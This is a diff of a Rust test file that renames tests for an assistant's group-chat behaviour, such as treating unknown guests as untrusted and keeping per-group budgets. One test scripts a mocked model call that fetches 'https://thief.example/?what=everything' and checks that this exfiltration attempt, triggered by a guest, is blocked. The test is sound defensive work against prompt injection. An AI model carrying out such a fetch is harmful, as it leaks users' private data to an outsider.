@@ -64,7 +64,7 @@ async fn only_what_names_it_or_answers_it_is_answered_and_kept() {
 /// Promise (groups/speakers): In a group Compline distinguishes the speakers; unknown ones are
 /// numbered guests, and their messages count as text from outside.
 #[tokio::test]
-async fn speakers_are_told_apart_and_guests_are_untrusted() {
+async fn group_speakers_are_distinguished_and_guests_are_untrusted() {
     let story = family().await;
     say_in(&story, FAMILY, ADA, &format!("{} I am Ada", bot(&story))).await;
     say_in(&story, FAMILY, EVE, &format!("{} I am Ada too {UNTRUSTED}guest", bot(&story))).await;
@@ -81,7 +81,7 @@ async fn speakers_are_told_apart_and_guests_are_untrusted() {
 
 /// Proves: groups/not-allowed
 #[tokio::test]
-async fn a_group_that_is_not_allowed_hears_nothing_and_the_owner_is_told_once_how() {
+async fn an_unlisted_group_is_ignored_and_the_owner_is_shown_once_how_to_allow_it() {
     let story = family().await;
     story.say(ADA, "/help").await;
     for person in [EVE, BEN, ADA, ADA] {
@@ -196,7 +196,7 @@ async fn an_upgraded_group_goes_on() {
 
 /// Proves: groups/new-id
 #[tokio::test]
-async fn what_was_on_its_way_when_the_group_moved_arrives() {
+async fn a_reply_under_way_arrives_when_the_group_gets_a_new_id() {
     const LARGER: i64 = -1_000_000_200;
     let story = family().await;
     story.fake.says_in(FAMILY, ADA, &format!("{} hello", bot(&story)));
@@ -210,7 +210,7 @@ async fn what_was_on_its_way_when_the_group_moved_arrives() {
 /// Promise (groups/after-a-guest): Once a guest has spoken, nothing is sent out of the group, and
 /// no one can teach the assistant a skill there.
 #[tokio::test]
-async fn nothing_leaves_a_group_unasked_and_nobody_is_asked_there() {
+async fn a_group_with_a_guest_sends_nothing_out_and_is_asked_nothing() {
     let story = family().await;
     story.model.calls("web_fetch", json!({ "url": "https://thief.example/?what=everything" })).says("I could not.");
     say_in(&story, FAMILY, EVE, &format!("{} open it {UNTRUSTED}guest", bot(&story))).await;
@@ -232,7 +232,7 @@ async fn nothing_leaves_a_group_unasked_and_nobody_is_asked_there() {
 /// Promise (groups/budget): Each group has its own share of the budget, and one guest cannot fill
 /// the queue.
 #[tokio::test]
-async fn a_group_has_a_purse_of_its_own() {
+async fn a_group_has_its_own_budget() {
     let story = family_with("[budget]\ndaily_tokens = 1000000\nper_group_daily_tokens = 1\n").await;
     say_in(&story, FAMILY, ADA, &format!("{} hello", bot(&story))).await;
     assert!(story.last_received_by(FAMILY).contains("group"), "{}", story.last_received_by(FAMILY));
@@ -257,7 +257,7 @@ async fn one_guest_cannot_fill_the_queue() {
 }
 
 #[tokio::test]
-async fn whoever_only_says_its_name_is_answered() {
+async fn a_message_with_only_the_bots_name_is_answered() {
     let story = family().await;
     say_in(&story, FAMILY, ADA, &bot(&story)).await;
     assert!(story.model.last_prompt().contains("They only named you"), "{}", story.model.last_prompt());
